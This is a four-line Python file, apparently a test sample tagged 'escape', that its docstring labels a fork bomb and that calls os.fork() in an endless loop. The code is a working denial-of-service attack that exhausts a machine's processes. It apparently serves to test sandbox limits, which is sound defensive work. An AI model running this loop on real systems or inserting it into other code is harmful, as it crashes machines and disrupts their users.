"""fork bomb: os.fork in an endless loop."""
# tags: escape
import os
while True:
    os.fork()
